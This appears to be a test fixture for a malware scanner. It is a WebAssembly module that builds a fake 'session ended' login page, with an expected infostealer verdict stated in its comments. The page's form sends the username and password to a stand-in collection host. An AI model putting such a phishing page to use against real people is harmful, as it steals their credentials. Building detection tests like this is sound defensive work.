;; RUN: spoor trace % --json
;; WHAT: Puts a page together that asks for a password and sends it elsewhere; an export returns address and
;;   length.
;; EXPECT: verdict=SUSPICIOUS|MALICIOUS family=infostealer rule=browser/page status=exited
(module
  (memory (export "memory") 1)
  (global $end (mut i32) (i32.const 16384))
  (func $append (param $from i32) (param $len i32)
    (memory.copy (global.get $end) (local.get $from) (local.get $len))
    (global.set $end (i32.add (global.get $end) (local.get $len))))
  (func (export "view") (result i32 i32)
    (global.set $end (i32.const 16384))
    (call $append (i32.const 1024) (i32.const 60))
    (call $append (i32.const 1084) (i32.const 143))
    (i32.const 16384)
    (i32.sub (global.get $end) (i32.const 16384)))
  (data (i32.const 1024) "<html><body><h1>Your session has ended</h1><form action=\22https://example.invalid/collect\22 method=\22post\22><input name=\22user\22><input name=\22pass\22 type=\22password\22><button>Sign in</button></form></body></html>"))
